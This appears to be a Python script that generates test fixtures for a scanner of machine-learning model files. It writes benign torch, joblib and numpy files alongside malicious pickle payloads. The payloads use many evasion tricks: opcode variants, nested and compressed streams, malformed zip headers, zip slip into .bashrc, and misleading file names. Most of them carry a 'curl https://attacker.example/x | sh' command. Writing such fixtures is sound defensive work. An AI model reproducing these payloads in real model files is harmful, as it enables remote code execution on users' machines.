#!/usr/bin/python3
"""Writes the model check's fixtures. Run with Debian's python3 (torch 1.13,
numpy, joblib, sklearn):  /usr/bin/python3 gen.py

benign/    files written by the real libraries (torch.save, joblib.dump, numpy.save…)
malicious/ one file per technique, written by emitting pickle opcodes or by
           editing real files. Nothing here is ever loaded: the payloads would
           run if it were.
"""
import base64, bz2, collections, gzip, io, lzma, os, pickle, struct, tarfile, zipfile, zlib

import joblib
import numpy as np
import torch
from sklearn.linear_model import LogisticRegression
from sklearn.tree import DecisionTreeClassifier

HERE = os.path.dirname(os.path.abspath(__file__))
B = os.path.join(HERE, "benign")
M = os.path.join(HERE, "malicious")
torch.manual_seed(0)
np.random.seed(0)


def out(d, name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)
        self.bn = torch.nn.BatchNorm1d(2)

    def forward(self, x):
        return self.bn(self.fc(x))


# ---------------------------------------------------------------- benign
net = Net()
sd = net.state_dict()
torch.save(sd, os.path.join(B, "torch_state_dict.pt"))
torch.save(sd, os.path.join(B, "torch_state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
torch.save(net, os.path.join(B, "torch_full_module.pt"))
opt = torch.optim.Adam(net.parameters(), lr=1e-3)
net(torch.randn(3, 4)).sum().backward()
opt.step()
torch.save({"model": sd, "optimizer": opt.state_dict(), "epoch": 3, "loss": 0.25},
           os.path.join(B, "torch_checkpoint.pt"))
# pickle.dumps of a tensor: storages go through torch.storage._load_from_bytes
out(B, "torch_tensor_pickled.pkl", pickle.dumps({"w": torch.arange(6, dtype=torch.float32)}, protocol=2))

X = np.random.rand(30, 4)
y = (X[:, 0] > 0.5).astype(int)
clf = LogisticRegression().fit(X, y)
tree = DecisionTreeClassifier(max_depth=3).fit(X, y)
joblib.dump(clf, os.path.join(B, "sklearn_logreg.joblib"))
joblib.dump(tree, os.path.join(B, "sklearn_tree.joblib"))
for comp in ["zlib", "gzip", "bz2", "lzma", "xz", "lz4"]:
    joblib.dump(tree, os.path.join(B, "sklearn_tree.joblib." + comp), compress=(comp, 3))
for proto in [0, 2, 4, 5]:
    out(B, "sklearn_tree_p%d.pkl" % proto, pickle.dumps(tree, protocol=proto))
np.save(os.path.join(B, "array_float.npy"), np.arange(12, dtype=np.float32).reshape(3, 4))
np.save(os.path.join(B, "array_object.npy"), np.array([{"a": 1}, "text", 3], dtype=object), allow_pickle=True)
np.savez(os.path.join(B, "arrays.npz"), a=np.arange(5), b=np.ones(3))
np.savez_compressed(os.path.join(B, "arrays_object_compressed.npz"), a=np.array([1, "x", None], dtype=object))
from sklearn.ensemble import RandomForestClassifier
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler
pipe = Pipeline([("scale", StandardScaler()), ("rf", RandomForestClassifier(n_estimators=2, max_depth=2, random_state=np.random.RandomState(0)))]).fit(X, y)
joblib.dump(pipe, os.path.join(B, "sklearn_pipeline.joblib"), compress=3)
out(B, "numpy_scalars_p2.pkl", pickle.dumps({"mean": np.float32(1.5), "n": np.int64(3), "dt": np.dtype("<f8"), "rng": np.random.RandomState(1)}, protocol=2))
# ndarray subclasses that older joblib and scikit-learn data carries
out(B, "numpy_matrix_masked_p2.pkl", pickle.dumps({"m": np.matrix([[1, 2], [3, 4]]), "ma": np.ma.masked_array([1, 2, 3], mask=[0, 1, 0])}, protocol=2))
# A text vectorizer with a str method as tokenizer: protocols 0-3 pickle the
# method descriptor as getattr(__builtin__.unicode, 'split') (QA found it
# reported critical as builtins.getattr).
from sklearn.feature_extraction.text import TfidfVectorizer
_tfidf = TfidfVectorizer(tokenizer=str.split, token_pattern=None).fit(["a b c", "b c d"])
out(B, "sklearn_tfidf_str_split_p2.pkl", pickle.dumps(_tfidf, protocol=2))
out(B, "sklearn_tfidf_str_split_p4.pkl", pickle.dumps(_tfidf, protocol=4))
torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), os.path.join(B, "torchscript_linear.pt"))
out(B, "plain_dict_p0.pkl", pickle.dumps({"lr": 0.1, "layers": [64, 32], "name": "mlp"}, protocol=0))
out(B, "ordered_dict_p4.pkl", pickle.dumps(collections.OrderedDict(a=1, b=[1.5, 2.5]), protocol=4))


# ---------------------------------------------------------------- malicious
def s4(x):  # SHORT_BINUNICODE
    b = x.encode()
    return b"\x8c" + bytes([len(b)]) + b


def binu(x):
    b = x.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def binb(x):
    return b"B" + struct.pack("<I", len(x)) + x


def reduce_call(module, name, *args, proto=2):
    """GLOBAL module name, args as unicode strings, TUPLE, REDUCE."""
    body = b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(binu(a) for a in args) + b"tR"
    return (b"\x80" + bytes([proto]) if proto >= 2 else b"") + body


CMD = "curl -s https://attacker.example/x | sh"
os_system = reduce_call("os", "system", CMD) + b"."
out(M, "reduce_os_system.pkl", os_system)
# protocol 0, no header: GLOBAL with posix alias, UNICODE operand
out(M, "proto0_posix_system.pkl", b"cposix\nsystem\n(Vid\ntR.")
# STACK_GLOBAL with operands from the memo, re-memoised (GET then PUT)
out(M, "stack_global_memo.pkl", b"\x80\x04" + s4("os") + b"\x94" + s4("system") + b"\x94" + b"0h\x00q\x05h\x01q\x060"
    + b"h\x05h\x06\x93" + s4("id") + b"\x85R.")
# dotted name resolved by find_class: pathlib.os.system
out(M, "dotted_name.pkl", b"\x80\x04" + s4("pathlib") + s4("os.system") + b"\x93" + s4("id") + b"\x85R.")
# STRING / BINSTRING / SHORT_BINSTRING operands
out(M, "string_opcodes.pkl", b"\x80\x02S'subprocess'\nU\x0ccheck_output\x93(S'sh'\nT\x02\x00\x00\x00-cU\x02idl\x85R.")
# INST (protocol 0) and OBJ (protocol 1)
out(M, "inst_eval.pkl", b"(S'__import__(\"os\").system(\"id\")'\ni__builtin__\neval\n.")
out(M, "obj_exec.pkl", b"(cbuiltins\nexec\nX\x09\x00\x00\x00import oso.")
# NEWOBJ_EX of subprocess.Popen
out(M, "newobj_ex_popen.pkl", b"\x80\x04" + s4("subprocess") + s4("Popen") + b"\x93" + s4("id") + b"\x85}\x92.")
# BUILD on the module: torch._utils._rebuild_tensor becomes "builtins"/"eval"
out(M, "module_override.pkl", b"\x80\x04" + s4("torch") + s4("_utils") + b"\x93\x94}" + s4("_rebuild_tensor") + s4("builtins")
    + b"sb0" + s4("torch._utils") + s4("_rebuild_tensor") + b"\x93" + s4("eval") + b"\x93" + s4("1+1") + b"\x85R.")
# copyreg extension code (resolves only if registered)
out(M, "ext_code.pkl", b"\x80\x02\x82\x07(Vid\ntR.")
# getattr(__import__('os'), 'system')('id')
out(M, "getattr_import.pkl", b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(Vid\ntR.")
# payload, then a truncated stream (the loader has run it before it fails)
out(M, "truncated_after_payload.pkl", os_system[:-1] + b"X\xff\x00\x00\x00abc")
# junk before the stream
out(M, "junk_prefix.pkl", b"\x00\x01GARBAGE\xfe\xff" * 7 + os_system)
# a benign stream, then a malicious one (read by a second pickle.load)
out(M, "second_stream.pkl", pickle.dumps({"weights": [1, 2, 3]}, protocol=4) + reduce_call("os", "system", "id", proto=4) + b".")
# nested: pickle.loads(base64.b64decode('…'))
inner = base64.b64encode(reduce_call("os", "system", "id") + b".").decode()
out(M, "nested_base64_loads.pkl", b"\x80\x02cpickle\nloads\n(cbase64\nb64decode\n(" + binu(inner) + b"tRtR.")
# nested: torch.storage._load_from_bytes of a malicious legacy checkpoint
out(M, "load_from_bytes.pkl", b"\x80\x02ctorch.storage\n_load_from_bytes\n(" + binb(reduce_call("os", "system", "id") + b".") + b"tR.")
# data-only pickle carrying an encoded second stage
out(M, "embedded_stage.pkl", pickle.dumps({"config": {"lr": 0.1}, "blob": base64.b64encode(os_system).decode()}, protocol=4))
# not allowlisted, called (high) and merely instantiated (medium)
out(M, "unknown_call.pkl", reduce_call("shady_helpers", "bootstrap", "https://attacker.example") + b".")
out(M, "unknown_class.pkl", b"\x80\x02cmy_project.models\nCustomNet\n)\x81}b.")

# PyTorch zip with a malicious data.pkl, written by torch.save and edited
buf = io.BytesIO()
torch.save(sd, buf)
src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))


def torch_zip(name, root="archive", payload=os_system, rename=None, compression=zipfile.ZIP_STORED):
    z = zipfile.ZipFile(os.path.join(M, name), "w", compression)
    for info in src.infolist():
        data = src.read(info.filename)
        member = root + info.filename[info.filename.index("/"):]
        if member.endswith("data.pkl"):
            data = payload
            if rename:
                member = rename(member)
        z.writestr(member, data)
    z.close()


torch_zip("torch_zip_payload.pt")
torch_zip("torch_zip_other_root.pt", root="resnet50_final")
torch_zip("torch_zip_uppercase.pt", rename=lambda m: m.upper())
torch_zip("torch_zip_deflated.pt", compression=zipfile.ZIP_DEFLATED)
# LZMA members (method 14, end-of-stream marker): Python's zipfile and so
# numpy.load read them; PyTorch's miniz refuses them, other extractors do not
torch_zip("torch_zip_lzma.pt", compression=zipfile.ZIP_LZMA)


def patch(path, old, new):
    d = open(path, "rb").read()
    open(path, "wb").write(d.replace(old, new))


# CRC mismatch (zipfile refuses, miniz does not check)
torch_zip("torch_zip_bad_crc.pt")
p = os.path.join(M, "torch_zip_bad_crc.pt")
zf = zipfile.ZipFile(p)
crc = zf.getinfo("archive/data.pkl").CRC
zf.close()
patch(p, struct.pack("<I", crc), struct.pack("<I", crc ^ 0xFFFF))
# the local header names the member differently from the central directory
torch_zip("torch_zip_local_name.pt")
p = os.path.join(M, "torch_zip_local_name.pt")
d = bytearray(open(p, "rb").read())
i = d.index(b"PK\x03\x04")
n = struct.unpack("<H", d[i + 26:i + 28])[0]
d[i + 30:i + 30 + n] = d[i + 30:i + 30 + n].replace(b"data.pkl", b"data.pkx")
open(p, "wb").write(bytes(d))

# PyTorch legacy format: the payload hides in the last of the five pickles
leg = io.BytesIO()
torch.save(sd, leg, _use_new_zipfile_serialization=False)
raw = leg.getvalue()
out(M, "torch_legacy_trailing_payload.pt", raw + os_system)
out(M, "torch_legacy_magic_payload.pt", reduce_call("builtins", "eval", "0x1950a86a20f9469cfc6c") + b"." + raw[raw.index(b".") + 1:])

# legacy tar format (sys_info, pickle, storages, tensors)
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.PAX_FORMAT) as t:
    for name, data in [("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)),
                       ("pickle", os_system), ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))]:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
out(M, "torch_legacy_tar.tar", tb.getvalue())

# legacy tar, payload in the "storages" member behind raw storage bytes
storages = pickle.dumps(1, protocol=2) + pickle.dumps(("0", "cpu", 16), protocol=2) + b"\x00" * 64 + os_system
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w") as t:
    for name, data in [("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                       ("pickle", pickle.dumps(collections.OrderedDict(), protocol=2)), ("storages", storages)]:
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
out(M, "torch_legacy_tar_storages.tar", tb.getvalue())

# joblib-style compressed payloads
out(M, "joblib_zlib.joblib", zlib.compress(os_system))
out(M, "joblib_gzip.joblib", gzip.compress(os_system))
out(M, "joblib_bz2.joblib", bz2.compress(os_system))
out(M, "joblib_lzma.joblib", lzma.compress(os_system, format=lzma.FORMAT_ALONE))
out(M, "joblib_xz.joblib", lzma.compress(os_system, format=lzma.FORMAT_XZ))
import lz4.frame
out(M, "joblib_lz4.joblib", lz4.frame.compress(os_system))

# NumPy object array whose pickle is the payload, alone and in an npz
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr += " " * (64 - (10 + len(hdr) + 1) % 64) + "\n"
npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + os_system
out(M, "object_array.npy", npy)
for name, comp in [("object_arrays.npz", zipfile.ZIP_DEFLATED), ("object_arrays_lzma.npz", zipfile.ZIP_LZMA)]:
    with zipfile.ZipFile(os.path.join(M, name), "w", comp) as z:
        z.writestr("ok.npy", open(os.path.join(B, "array_float.npy"), "rb").read())
        z.writestr("evil.npy", npy)


def lzma_copy(src_path, dst_path):
    """Rewrites a zip written by a real library with every member LZMA-compressed."""
    with zipfile.ZipFile(src_path) as src, zipfile.ZipFile(dst_path, "w", zipfile.ZIP_LZMA) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))


lzma_copy(os.path.join(B, "torch_state_dict.pt"), os.path.join(B, "torch_state_dict_lzma.pt"))
lzma_copy(os.path.join(B, "arrays.npz"), os.path.join(B, "arrays_lzma.npz"))

# an LZMA member whose stream is cut short: the member is written stored with
# the truncated method-14 bytes (version, properties, half the stream), then
# its headers are patched to say LZMA and to give the pickle's size and CRC
lz = zipfile._get_compressor(zipfile.ZIP_LZMA)
full = lz.compress(os_system) + lz.flush()
cut = full[:len(full) // 2]
p = os.path.join(M, "torch_zip_lzma_truncated.pt")
with zipfile.ZipFile(p, "w") as z:
    z.writestr("archive/version", b"3\n")
    z.writestr("archive/data.pkl", cut)
d = bytearray(open(p, "rb").read())
for sig, method_at, flags_at, crc_at in [(b"PK\x03\x04", 8, 6, 14), (b"PK\x01\x02", 10, 8, 16)]:
    i = d.index(sig, d.index(sig) + 1)  # the second header of each kind: data.pkl
    d[i + flags_at:i + flags_at + 2] = struct.pack("<H", 2)  # end-of-stream marker expected
    d[i + method_at:i + method_at + 2] = struct.pack("<H", zipfile.ZIP_LZMA)
    d[i + crc_at:i + crc_at + 4] = struct.pack("<I", zlib.crc32(os_system))
    d[i + crc_at + 8:i + crc_at + 12] = struct.pack("<I", len(os_system))  # uncompressed size
open(p, "wb").write(bytes(d))

# nested archive: a zip in a tar.gz
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z:
    z.writestr("inner/model.bin", os_system)
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w:gz") as t:
    ti = tarfile.TarInfo("bundle/weights.zip")
    ti.size = len(zb.getvalue())
    t.addfile(ti, io.BytesIO(zb.getvalue()))
out(M, "nested_zip_in_targz.tgz", tb.getvalue())
# path traversal in a zip
with zipfile.ZipFile(os.path.join(M, "zip_slip.zip"), "w") as z:
    z.writestr("../../home/user/.bashrc", b"curl attacker | sh\n")

# pickle content under names that promise something else
for n in ["config.json", "model.safetensors", "notes.txt"]:
    out(M, "named_" + n, os_system)
